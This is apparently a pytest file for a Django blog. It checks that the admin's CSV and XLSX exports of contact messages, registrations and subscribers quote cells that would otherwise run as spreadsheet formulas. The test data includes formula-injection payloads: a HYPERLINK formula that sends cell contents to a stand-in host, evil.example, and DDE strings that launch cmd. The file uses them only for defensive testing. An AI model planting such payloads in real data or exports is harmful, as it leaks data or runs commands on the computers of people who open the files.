"""CSV exports cannot carry formulas (mrblogg/spreadsheets.py): the contact messages, the
registrant lists and the subscribers, as an officer downloads them from the admin."""

import csv
import io

import pytest
from django.contrib.auth import get_user_model
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from blog.contact.models import ContactSubmission
from blog.events.models import Registration, RegistrationField
from mrblogg.spreadsheets import FORMULA_STARTS, neutralise_formula
from tests.blog.subscriptions.factory import make_subscriber
from tests.factories import make_contact_page, make_event, make_registration_form
from tests.staff import give_totp

ATTACKS = [
    '=HYPERLINK("https://evil.example/?d="&A2,"Klicka här")',
    "+46 70 123 45 67",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]
HARMLESS = ["Åsa Öberg", "Zoltán Ñúñez", "Спасибо за помощь", "東京都", "", "a=b", "070-123"]


@pytest.mark.parametrize("value", ATTACKS)
def test_a_cell_that_would_be_a_formula_gets_a_quote_first(value):
    assert neutralise_formula(value) == "'" + value


@pytest.mark.parametrize("value", HARMLESS + [None, 42, -7, 3.5])
def test_other_values_are_left_as_they_are(value):
    assert neutralise_formula(value) == value


@given(st.text())
def test_no_text_comes_out_as_a_formula_and_nothing_is_lost(value):
    out = neutralise_formula(value)
    assert not out.startswith(FORMULA_STARTS)
    assert out in (value, "'" + value)


def test_huge_input_is_handled_in_one_pass():
    value = "=" + "A1&" * 200_000
    assert neutralise_formula(value) == "'" + value


def rows(response):
    text = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.reader(io.StringIO(text)))


@pytest.fixture
def officer_client(client, db):
    user = get_user_model().objects.create_superuser("root", "root@example.org", "pw")
    give_totp(user)
    client.force_login(user)
    return client


@pytest.mark.django_db
def test_contact_messages_export_without_formulas(officer_client, blog_index):
    contact = make_contact_page()
    for attack in ATTACKS:
        ContactSubmission.objects.create(page=contact, form_data={
            "namn": attack, "e_post": "asa@example.org", "amne": "Åäö",
            "meddelande": "Hej från Kiruna",
        })
    url = f"/admin/forms/submissions/{contact.pk}/?export=csv"
    header, *data = rows(officer_client.get(url))
    names = [row[header.index("Namn")] for row in data]
    assert sorted(names) == sorted("'" + attack for attack in ATTACKS)
    assert {row[header.index("Ämne")] for row in data} == {"Åäö"}
    assert {row[header.index("Meddelande")] for row in data} == {"Hej från Kiruna"}


@pytest.mark.django_db
def test_registrations_export_without_formulas_in_cells_or_headings(officer_client, blog_index):
    event = make_registration_form(make_event(title="Konferensen"))
    RegistrationField.objects.create(
        page=event, sort_order=9, label="=1+1 Fråga", field_type="singleline", required=False)
    field = RegistrationField.objects.get(label="=1+1 Fråga")
    Registration.objects.create(page=event, email="a@example.org", form_data={
        "namn": '=HYPERLINK("https://evil.example")', "e_post": "a@example.org",
        "organisation": "@Umeå kommun", "telefon": "+46 70 111 22 33",
        field.clean_name: ["-val", "ett"],
    })
    url = f"/admin/forms/submissions/{event.pk}/"
    header, row = rows(officer_client.get(url + "?export=csv"))
    cells = dict(zip(header, row, strict=False))
    assert "'=1+1 Fråga" in header
    assert cells["Namn"] == "'=HYPERLINK(\"https://evil.example\")"
    assert cells["Organisation"] == "'@Umeå kommun"
    assert cells["Telefon"] == "'+46 70 111 22 33"
    assert cells["'=1+1 Fråga"] == "'-val, ett"
    # XLSX: every cell is a string cell (Wagtail's own), no formula, the heading neither.
    response = officer_client.get(url + "?export=xlsx")
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert cells and all(cell.data_type != "f" for cell in cells)
    assert '=HYPERLINK("https://evil.example")' in [cell.value for cell in cells]


@pytest.mark.django_db
def test_subscribers_export_without_formulas(officer_client):
    make_subscriber(email="=1+2@example.org")
    make_subscriber(email="karin@example.org")
    header, *data = rows(officer_client.get("/admin/subscriptions/subscribers/?export=csv"))
    emails = sorted(row[0] for row in data)
    assert emails == ["'=1+2@example.org", "karin@example.org"]
